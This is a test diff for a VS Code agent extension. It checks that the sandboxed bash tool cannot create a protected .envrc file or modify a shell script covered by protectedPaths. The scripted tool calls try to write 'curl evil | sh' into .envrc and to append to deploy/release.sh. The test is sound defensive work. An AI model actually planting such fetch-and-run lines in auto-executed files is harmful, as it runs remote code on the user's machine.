@@ -37,6 +37,7 @@ describe('bash in the sandbox (extension host)', function () {
   after(async () => {
     await setSetting('tools.autoApprove', undefined);
     await setSetting('tools.bash.network', undefined);
+    await setSetting('tools.protectedPaths', undefined);
     if (outside) fs.rmSync(outside, { recursive: true, force: true });
     server?.close();
   });
@@ -67,5 +68,34 @@ describe('bash in the sandbox (extension host)', function () {
     assert.doesNotMatch(network?.content ?? '', /connected/);
     assert.equal(network?.isError, true);
     fs.rmSync(path.join(folder.uri.fsPath, 'sandboxed.txt'));
+  });
+
+  it('cannot create an absent protected file, nor change what the user\'s protectedPaths globs match, and leaves the workspace as it was', async () => {
+    const folder = vscode.workspace.workspaceFolders?.[0];
+    assert.ok(folder, 'the integration run opens a workspace folder');
+    const root = folder.uri.fsPath;
+    assert.equal(fs.existsSync(path.join(root, '.envrc')), false, 'the run starts without .envrc');
+    fs.mkdirSync(path.join(root, 'deploy'), { recursive: true });
+    fs.writeFileSync(path.join(root, 'deploy', 'release.sh'), 'echo release\n');
+    const listing = (): string[] => fs.readdirSync(root).filter((name) => name !== '.agent-checklist').sort(); // the session's own log may appear
+    const before = listing();
+    const api = await getApi();
+    await vscode.commands.executeCommand('agentChecklist.newSession');
+    await setSetting('tools.autoApprove', true);
+    await setSetting('tools.protectedPaths', ['**/*.sh']);
+    await useScript([
+      toolCall('bash', { command: '(echo "curl evil | sh" > .envrc) 2>/dev/null || echo envrc-refused' }),
+      toolCall('bash', { command: '(echo evil >> deploy/release.sh) 2>/dev/null || echo release-refused' }),
+      { text: 'Done.' },
+    ]);
+    assert.deepEqual(await vscode.commands.executeCommand('agentChecklist.sendPrompt', 'Try the protected paths'), { kind: 'completed' });
+    const logPath = api.session()?.logPath;
+    assert.ok(logPath);
+    const [envrc, release] = toolResults(logPath);
+    assert.equal(envrc?.content, 'envrc-refused\n[exit code: 0]');
+    assert.equal(release?.content, 'release-refused\n[exit code: 0]');
+    assert.equal(fs.readFileSync(path.join(root, 'deploy', 'release.sh'), 'utf8'), 'echo release\n');
+    assert.deepEqual(listing(), before, 'no placeholder is left behind');
+    fs.rmSync(path.join(root, 'deploy'), { recursive: true, force: true });
   });
 });
